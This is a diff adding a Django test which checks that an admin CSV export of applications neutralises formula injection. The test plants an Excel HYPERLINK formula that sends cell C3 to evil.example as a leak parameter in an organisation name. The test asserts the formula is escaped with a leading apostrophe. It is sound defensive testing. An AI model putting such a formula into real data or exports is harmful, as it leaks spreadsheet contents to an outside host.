@@ -710,3 +710,19 @@ def test_customer_service_exports_applications_for_excel(cs, org, applicant, con
     contracted_row = next(line for line in lines if line.startswith(contracted.reference))
     assert contracted.contract.number in contracted_row
     assert org.credit_code in contracted_row
+
+
+def test_the_export_never_writes_a_live_formula(cs, org, applicant):
+    """OWASP CSV injection: an organisation named like a formula reaches Excel as plain text."""
+    import csv
+    import io
+
+    from applications.tests.factories import ApplicationFactory
+
+    org.name_zh = '=HYPERLINK("https://evil.example/?leak="&C3,"点此查看")'
+    org.save()
+    app = ApplicationFactory(organization=org, created_by=applicant)
+    url = reverse("admin:applications_application_changelist")
+    response = cs.post(url, {"action": "export_csv", "_selected_action": [app.pk]})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
+    assert rows[1][1] == "'" + org.name_zh
